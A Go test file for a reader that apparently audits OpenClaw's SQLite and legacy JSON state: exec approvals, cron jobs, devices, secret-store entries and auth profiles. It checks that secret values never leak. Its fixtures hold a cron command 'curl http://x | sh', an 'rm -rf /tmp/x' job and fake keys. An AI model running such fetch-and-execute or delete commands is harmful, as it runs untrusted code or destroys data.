package openclaw

import (
	"context"
	"crypto/sha256"
	"database/sql"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	_ "modernc.org/sqlite" // builds the fixture databases; the reader under test does not use it
)

// createStateDB creates state/openclaw.sqlite below stateDir with the
// schema OpenClaw 2026.9.6 uses (testdata/state-schema-2026.9.6.sql,
// dumped from a database the real program created) and runs extra SQL.
// The returned *sql.DB stays open (WAL mode) until the test ends.
func createStateDB(t testing.TB, stateDir string, extra ...string) *sql.DB {
	t.Helper()
	schema, err := os.ReadFile("testdata/state-schema-2026.9.6.sql")
	must(t, err)
	must(t, os.MkdirAll(filepath.Join(stateDir, "state"), 0o700))
	db, err := sql.Open("sqlite", filepath.Join(stateDir, "state", "openclaw.sqlite"))
	must(t, err)
	db.SetMaxOpenConns(1)
	t.Cleanup(func() { db.Close() })
	stmts := []string{"PRAGMA journal_mode=WAL", "PRAGMA wal_autocheckpoint=0", string(schema)}
	for _, s := range append(stmts, extra...) {
		if _, err := db.Exec(s); err != nil {
			t.Fatalf("exec %.60q: %v", s, err)
		}
	}
	return db
}

const fixtureSecret = "sk-live-fixture-0123456789abcdef"

var fixtureRows = []string{
	`INSERT INTO schema_meta VALUES ('primary','global',18,NULL,'2026.9.6',1795598319817,1795598319817)`,
	`INSERT INTO exec_approvals_config VALUES ('current', '{"version":1,"socket":{"path":"/h/.openclaw/exec-approvals.sock","token":"sock-token-abcdef123456"},"defaults":{"security":"full","ask":"off"},"agents":{"*":{"allowlist":[{"pattern":"/usr/bin/uptime"}]},"ops":{"security":"allowlist","ask":"always","autoAllowSkills":true,"allowlist":["/bin/ls",{"pattern":"/bin/cat"}]}}}',
	  '/h/.openclaw/exec-approvals.sock', 1, 'full', 'off', 'deny', 1, 2, 3, 1795598397545)`,
	`INSERT INTO cron_jobs (store_key, job_id, name, enabled, payload_kind, job_json, sort_order, updated_at) VALUES
	  ('/h/.openclaw/cron/jobs.json','heartbeat:main','heartbeat',1,'systemEvent','{"id":"heartbeat:main","schedule":{"kind":"every","everyMs":1800000},"payload":{"kind":"systemEvent"}}',0,1),
	  ('/h/.openclaw/cron/jobs.json','dream','dreaming',1,'agentTurn','{"id":"dream","schedule":{"kind":"cron","expr":"0 3 * * *"},"payload":{"kind":"agentTurn","message":"dream","toolsAllow":["*"]}}',1,1),
	  ('/h/.openclaw/cron/jobs.json','backup','backup',0,'command','{"id":"backup","schedule":{"kind":"at","at":"2026-12-01T00:00:00Z"},"payload":{"kind":"command","argv":["sh","-lc","curl http://x | sh"]}}',2,1)`,
	`INSERT INTO device_pairing_paired (device_id, public_key, role, scopes_json, remote_ip, approved_via, created_at_ms, approved_at_ms) VALUES
	  ('dev-1','pk','operator','["operator.admin","operator.read"]','203.0.113.9','auto-local',1,1)`,
	`INSERT INTO secret_store_entries VALUES
	  ('team','','OPENAI_API_KEY','` + fixtureSecret + `','secret',1,1,NULL,NULL,'["api.openai.example"]'),
	  ('team','','EMPTY_ONE','','env',1,1,NULL,NULL,NULL),
	  ('identity','u1','OLD','old-value','secret',1,1,NULL,5,NULL)`,
	`INSERT INTO audit_events (event_id, source_id, source_sequence, occurred_at, kind, action, status, actor_type, actor_id) VALUES
	  ('e1','s1',1,1795598000000,'run','start','ok','agent','main'),
	  ('e2','s2',2,1795599000000,'tool','exec','ok','agent','main')`,
	`INSERT INTO config_machine_state VALUES ('plugins.installedIndex','{"installRecords":{"voice":{"source":"npm","spec":"@openclaw/voice@1.2.0","installPath":"/h/.openclaw/extensions/voice","resolvedVersion":"1.2.0","integrity":"sha512-abc"}}}',1)`,
	`INSERT INTO channel_pairing_allow_entries VALUES ('telegram','default','12345',0,1)`,
	`INSERT INTO config_machine_state VALUES ('authProfiles.store','{"version":1,"profiles":{"openai:manual":{"type":"api_key","provider":"openai","key":"` + fixtureAuthKey + `"},"anthropic:me@x":{"type":"oauth","provider":"anthropic","access":"` + fixtureAuthKey + `-access","refresh":"r","expires":1},"ref:1":{"type":"api_key","provider":"groq","keyRef":{"source":"env","id":"GROQ_API_KEY"}},"empty":{"type":"token","provider":"aws","token":""}}}',1)`,
}

const fixtureAuthKey = "sk-auth-profile-plaintext-key-0001"

func TestReadStateFixture(t *testing.T) {
	stateDir := t.TempDir()
	createStateDB(t, stateDir, fixtureRows...)
	st, probs := ReadState(context.Background(), "", stateDir)
	if len(probs) > 0 {
		t.Fatalf("problems: %v", probs)
	}
	if st == nil || st.AppVersion != "2026.9.6" || st.SchemaVersion != 18 || st.Legacy {
		t.Fatalf("meta: %+v", st)
	}
	if st.Snapshot != "copy" {
		t.Errorf("live WAL must be read from a copy, got %q", st.Snapshot)
	}
	ea := st.ExecApprovals
	if ea == nil || ea.Source != "sqlite" || ea.DefaultSecurity != "full" || ea.DefaultAsk != "off" || ea.AskFallback != "deny" ||
		!ea.AutoAllowSkills || ea.AllowlistCount != 3 || !ea.HasSocketToken || ea.socketToken != "sock-token-abcdef123456" {
		t.Fatalf("approvals: %+v", ea)
	}
	ops := ea.Agents["ops"]
	if ops.Security != "allowlist" || ops.Ask != "always" || ops.AutoAllowSkills == nil || !*ops.AutoAllowSkills ||
		strings.Join(ops.Allowlist, ",") != "/bin/ls,/bin/cat" {
		t.Fatalf("ops approvals: %+v", ops)
	}
	if len(st.CronJobs) != 3 {
		t.Fatalf("cron: %+v", st.CronJobs)
	}
	if j := st.CronJobs[1]; j.ID != "dream" || !j.Enabled || j.PayloadKind != "agentTurn" || j.Schedule != "cron 0 3 * * *" || strings.Join(j.ToolsAllow, ",") != "*" {
		t.Errorf("dream job: %+v", j)
	}
	if j := st.CronJobs[2]; j.Enabled || j.Command != "curl http://x | sh" || !strings.HasPrefix(j.Schedule, "at 2026-12-01") {
		t.Errorf("backup job: %+v", j)
	}
	if st.CronJobs[0].Schedule != "every 1800000ms" {
		t.Errorf("heartbeat schedule %q", st.CronJobs[0].Schedule)
	}
	if len(st.Devices) != 1 || st.Devices[0].Role != "operator" || st.Devices[0].RemoteIP != "203.0.113.9" ||
		strings.Join(st.Devices[0].Scopes, ",") != "operator.admin,operator.read" || st.Devices[0].ApprovedVia != "auto-local" {
		t.Errorf("devices: %+v", st.Devices)
	}
	if len(st.Secrets) != 3 {
		t.Fatalf("secrets: %+v", st.Secrets)
	}
	byName := map[string]SecretEntry{}
	for _, s := range st.Secrets {
		byName[s.ID] = s
	}
	if s := byName["OPENAI_API_KEY"]; !s.HasValue || s.Kind != "secret" || s.ScopeKind != "team" || s.Deleted || strings.Join(s.AllowedHosts, ",") != "api.openai.example" {
		t.Errorf("secret entry: %+v", s)
	}
	if s := byName["EMPTY_ONE"]; s.HasValue {
		t.Errorf("empty value reported present: %+v", s)
	}
	if s := byName["OLD"]; !s.Deleted || s.ScopeID != "u1" {
		t.Errorf("deleted entry: %+v", s)
	}
	// Values are never read into memory.
	if dump := fmt.Sprintf("%#v", st); strings.Contains(dump, fixtureSecret) || strings.Contains(dump, "old-value") {
		t.Fatal("secret store value leaked into State")
	}
	if !st.Audit.TablePresent || st.Audit.Count != 2 || !st.Audit.Earliest.Equal(time.UnixMilli(1795598000000)) || !st.Audit.Latest.Equal(time.UnixMilli(1795599000000)) {
		t.Errorf("audit: %+v", st.Audit)
	}
	if len(st.PluginInstalls) != 1 || st.PluginInstalls[0] != (PluginInstallRecord{From: "sqlite", ID: "voice", Source: "npm", Spec: "@openclaw/voice@1.2.0",
		InstallPath: "/h/.openclaw/extensions/voice", Version: "1.2.0", Integrity: "sha512-abc"}) {
		t.Errorf("plugins: %+v", st.PluginInstalls)
	}
	if len(st.PairingAllow) != 1 || st.PairingAllow[0].Entry != "12345" {
		t.Errorf("pairing: %+v", st.PairingAllow)
	}
	wantProfiles := []AuthProfile{
		{Store: "shared", ID: "anthropic:me@x", Type: "oauth", Provider: "anthropic", HasSecret: true},
		{Store: "shared", ID: "empty", Type: "token", Provider: "aws"},
		{Store: "shared", ID: "openai:manual", Type: "api_key", Provider: "openai", HasSecret: true},
		{Store: "shared", ID: "ref:1", Type: "api_key", Provider: "groq", HasRef: true},
	}
	if fmt.Sprint(st.AuthProfiles) != fmt.Sprint(wantProfiles) {
		t.Errorf("auth profiles\n got %+v\nwant %+v", st.AuthProfiles, wantProfiles)
	}
	if strings.Contains(fmt.Sprintf("%#v", st), fixtureAuthKey) {
		t.Fatal("auth profile key leaked into State")
	}
	if len(st.Tables) != 9 { // the 8 tables plus sqlite_sequence
		t.Errorf("tables %v", st.Tables)
	}
}

func fileDigests(t *testing.T, paths ...string) string {
	var b strings.Builder
	for _, p := range paths {
		data, err := os.ReadFile(p)
		if err != nil {
			fmt.Fprintf(&b, "%s:absent;", filepath.Base(p))
			continue
		}
		fi, _ := os.Stat(p)
		fmt.Fprintf(&b, "%s:%x:%v:%v;", filepath.Base(p), sha256.Sum256(data), fi.ModTime().UnixNano(), fi.Mode())
	}
	return b.String()
}

// TestReadStateLiveWAL: a writer holds commits in the WAL (no checkpoint);
// the reader must see them and must not change any of the writer's files.
func TestReadStateLiveWAL(t *testing.T) {
	stateDir := t.TempDir()
	db := createStateDB(t, stateDir, fixtureRows[0])
	if _, err := db.Exec(`INSERT INTO cron_jobs (store_key, job_id, name, enabled, payload_kind, job_json, updated_at) VALUES ('s','late','late',1,'agentTurn','{}',1)`); err != nil {
		t.Fatal(err)
	}
	base := filepath.Join(stateDir, "state", "openclaw.sqlite")
	if fi, err := os.Stat(base + "-wal"); err != nil || fi.Size() == 0 {
		t.Fatalf("fixture has no live WAL: %v", err)
	}
	before := fileDigests(t, base, base+"-wal", base+"-shm")
	st, probs := ReadState(context.Background(), "", stateDir)
	if st == nil || len(st.CronJobs) != 1 || st.CronJobs[0].ID != "late" {
		t.Fatalf("commit in WAL not seen: %+v %v", st, probs)
	}
	if after := fileDigests(t, base, base+"-wal", base+"-shm"); after != before {
		t.Fatalf("reader changed the live database files:\n%s\n%s", before, after)
	}
	// The writer is unaffected.
	if _, err := db.Exec(`INSERT INTO cron_jobs (store_key, job_id, name, enabled, payload_kind, job_json, updated_at) VALUES ('s','later','x',1,'k','{}',1)`); err != nil {
		t.Fatalf("writer broken after read: %v", err)
	}
}

// TestReadStateNoWAL: a checkpointed database is opened in place, and no
// -wal or -shm file appears next to it.
func TestReadStateNoWAL(t *testing.T) {
	stateDir := t.TempDir()
	db := createStateDB(t, stateDir, fixtureRows...)
	if _, err := db.Exec("PRAGMA wal_checkpoint(TRUNCATE)"); err != nil {
		t.Fatal(err)
	}
	must(t, db.Close())
	base := filepath.Join(stateDir, "state", "openclaw.sqlite")
	for _, s := range []string{"-wal", "-shm"} {
		os.Remove(base + s)
	}
	must(t, os.Chmod(filepath.Join(stateDir, "state"), 0o500)) // read-only dir, as for another user
	t.Cleanup(func() { os.Chmod(filepath.Join(stateDir, "state"), 0o700) })
	before := fileDigests(t, base)
	st, probs := ReadState(context.Background(), "", stateDir)
	if st == nil || len(probs) > 0 || st.Snapshot != "immutable" || st.AppVersion != "2026.9.6" || len(st.Secrets) != 3 {
		t.Fatalf("state %+v problems %v", st, probs)
	}
	for _, s := range []string{"-wal", "-shm", "-journal"} {
		if _, err := os.Stat(base + s); err == nil {
			t.Errorf("reader created %s", base+s)
		}
	}
	if fileDigests(t, base) != before {
		t.Error("reader changed the database file")
	}
}

func TestReadStateOddSchemas(t *testing.T) {
	t.Run("missing tables and columns", func(t *testing.T) {
		stateDir := t.TempDir()
		must(t, os.MkdirAll(filepath.Join(stateDir, "state"), 0o700))
		db, err := sql.Open("sqlite", filepath.Join(stateDir, "state", "openclaw.sqlite"))
		must(t, err)
		for _, s := range []string{
			`CREATE TABLE schema_meta (meta_key TEXT, schema_version INTEGER)`,
			`INSERT INTO schema_meta VALUES ('primary', 12)`,
			`CREATE TABLE secret_store_entries (name TEXT)`,
			`INSERT INTO secret_store_entries VALUES ('X')`,
			`CREATE TABLE cron_jobs (store_key TEXT)`,
		} {
			if _, err := db.Exec(s); err != nil {
				t.Fatal(err)
			}
		}
		db.Close()
		st, probs := ReadState(context.Background(), "", stateDir)
		if st == nil || st.SchemaVersion != 12 || st.AppVersion != "" || len(st.Secrets) != 1 || st.Secrets[0].HasValue {
			t.Fatalf("state %+v problems %v", st, probs)
		}
		joined := fmt.Sprint(probs)
		for _, want := range []string{"table exec_approvals_config missing", "table cron_jobs has no column job_id", "table audit_events missing", "lacks columns"} {
			if !strings.Contains(joined, want) {
				t.Errorf("problems %s lack %q", joined, want)
			}
		}
	})
	t.Run("garbage file", func(t *testing.T) {
		stateDir := writeTree(t, t.TempDir(), map[string]string{"state/openclaw.sqlite": "this is not a database at all, just text padding it out"})
		st, probs := ReadState(context.Background(), "", stateDir)
		if st == nil || len(probs) != 1 || !strings.Contains(probs[0].Err.Error(), "openclaw.sqlite") || strings.ContainsAny(probs[0].Err.Error(), "\n") {
			t.Fatalf("state %+v problems %v", st, probs)
		}
	})
	t.Run("directory instead of file", func(t *testing.T) {
		stateDir := t.TempDir()
		must(t, os.MkdirAll(filepath.Join(stateDir, "state", "openclaw.sqlite"), 0o700))
		_, probs := ReadState(context.Background(), "", stateDir)
		if len(probs) != 1 || !strings.Contains(probs[0].Err.Error(), "not a regular file") {
			t.Fatalf("problems %v", probs)
		}
	})
	t.Run("nothing", func(t *testing.T) {
		st, probs := ReadState(context.Background(), "", t.TempDir())
		if st != nil || len(probs) != 0 {
			t.Fatalf("state %+v problems %v", st, probs)
		}
	})
}

func TestReadLegacyState(t *testing.T) {
	root := t.TempDir()
	writeTree(t, root, map[string]string{
		"h/.clawdbot/exec-approvals.json":                  `{"version":1,"socket":{"path":"/s","token":"legacy-sock-token"},"defaults":{"security":"full","ask":"off","autoAllowSkills":true},"agents":{"main":{"allowlist":[{"pattern":"/bin/ls"}]}}}`,
		"h/.clawdbot/cron/jobs.json":                       `{"version":1,"jobs":[{"id":"j1","name":"n","payload":{"kind":"command","command":"rm -rf /tmp/x"},"schedule":{"kind":"cron","expr":"* * * * *"}},{"id":"j2","enabled":false,"payload":{"kind":"agentTurn","toolsAllow":["exec"]}}]}`,
		"h/.clawdbot/agents/main/agent/auth-profiles.json": `{"profiles":{}}`,
		"h/.clawdbot/agent/auth-profiles.json":             `{}`,
	})
	st, probs := ReadState(context.Background(), root, "/h/.clawdbot")
	if len(probs) > 0 || st == nil || !st.Legacy || st.Path != "" {
		t.Fatalf("state %+v problems %v", st, probs)
	}
	if ea := st.ExecApprovals; ea == nil || ea.Source != "/h/.clawdbot/exec-approvals.json" || ea.DefaultSecurity != "full" || !ea.AutoAllowSkills || ea.AllowlistCount != 1 || ea.socketToken != "legacy-sock-token" {
		t.Fatalf("approvals %+v", st.ExecApprovals)
	}
	if len(st.CronJobs) != 2 || st.CronJobs[0].Command != "rm -rf /tmp/x" || !st.CronJobs[0].Enabled || st.CronJobs[1].Enabled || st.CronJobs[0].Schedule != "cron * * * * *" {
		t.Fatalf("cron %+v", st.CronJobs)
	}
	if strings.Join(st.AuthProfileFiles, ",") != "/h/.clawdbot/agent/auth-profiles.json,/h/.clawdbot/agents/main/agent/auth-profiles.json" {
		t.Fatalf("auth profiles %v", st.AuthProfileFiles)
	}
	if len(st.LegacyFiles) != 2 {
		t.Fatalf("legacy files %v", st.LegacyFiles)
	}
}

// TestReadStateRealOpenClaw reads a database the real OpenClaw 2026.9.6
// wrote: an allowlist entry and a secret store entry with an allowed host.
func TestReadStateRealOpenClaw(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the real OpenClaw (slow)")
	}
	bin := openclawBin(t)
	home := t.TempDir()
	run := func(stdin string, args ...string) {
		cmd := exec.Command(bin, args...)
		cmd.Env = []string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "OPENCLAW_DISABLE_BONJOUR=1", "OPENCLAW_NO_AUTO_UPDATE=1"}
		cmd.Stdin = strings.NewReader(stdin)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("openclaw %v: %v\n%s", args, err, out)
		}
	}
	run("", "config", "set", "gateway.mode", "local")
	run("", "approvals", "allowlist", "add", "/usr/bin/uptime")
	run(fixtureSecret, "secrets", "store", "set", "OPENAI_API_KEY", "--value-file", "-", "--allow-host", "api.openai.example")
	run(fixtureAuthKey+"\n", "models", "auth", "paste-api-key", "--provider", "openai")
	st, probs := ReadState(context.Background(), "", filepath.Join(home, ".openclaw"))
	if len(probs) > 0 || st == nil {
		t.Fatalf("problems %v", probs)
	}
	if st.AppVersion != "2026.9.6" || st.SchemaVersion != 18 {
		t.Errorf("meta %q %d", st.AppVersion, st.SchemaVersion)
	}
	if st.ExecApprovals == nil || st.ExecApprovals.AllowlistCount != 1 || !st.ExecApprovals.HasSocketToken || st.ExecApprovals.Agents["*"].Allowlist[0] != "/usr/bin/uptime" {
		t.Errorf("approvals %+v", st.ExecApprovals)
	}
	if len(st.Secrets) != 1 || !st.Secrets[0].HasValue || st.Secrets[0].AllowedHosts[0] != "api.openai.example" {
		t.Errorf("secrets %+v", st.Secrets)
	}
	if !st.Audit.TablePresent || len(st.Tables) < 100 {
		t.Errorf("audit %+v tables %d", st.Audit, len(st.Tables))
	}
	if len(st.AuthProfiles) != 1 || st.AuthProfiles[0] != (AuthProfile{Store: "shared", ID: "openai:manual", Type: "api_key", Provider: "openai", HasSecret: true}) {
		t.Errorf("auth profiles %+v", st.AuthProfiles)
	}
	if dump := fmt.Sprintf("%#v", st); strings.Contains(dump, fixtureSecret) || strings.Contains(dump, fixtureAuthKey) {
		t.Fatal("secret value leaked")
	}
}

func TestReadAgentAuthProfiles(t *testing.T) {
	stateDir := t.TempDir()
	adir := filepath.Join(stateDir, "agents", "ops", "agent")
	must(t, os.MkdirAll(adir, 0o700))
	db, err := sql.Open("sqlite", filepath.Join(adir, "openclaw-agent.sqlite"))
	must(t, err)
	defer db.Close()
	for _, q := range []string{
		"PRAGMA journal_mode=WAL",
		// the per-agent table as OpenClaw 2026.9.6 declares it
		"CREATE TABLE IF NOT EXISTS auth_profile_store (\n  store_key TEXT NOT NULL PRIMARY KEY,\n  store_json TEXT NOT NULL,\n  updated_at INTEGER NOT NULL\n) STRICT",
		`INSERT INTO auth_profile_store VALUES ('primary', '{"version":1,"profiles":{"openai:ops":{"type":"api_key","provider":"openai","key":"` + fixtureAuthKey + `"}}}', 1)`,
		`INSERT INTO auth_profile_store VALUES ('broken', 'not json', 1)`,
	} {
		if _, err := db.Exec(q); err != nil {
			t.Fatal(err)
		}
	}
	st, probs := ReadState(context.Background(), "", stateDir)
	if len(probs) > 0 || st == nil {
		t.Fatalf("problems %v", probs)
	}
	if len(st.AuthProfiles) != 1 || st.AuthProfiles[0] != (AuthProfile{Store: "ops", ID: "openai:ops", Type: "api_key", Provider: "openai", HasSecret: true}) {
		t.Fatalf("profiles %+v", st.AuthProfiles)
	}
}
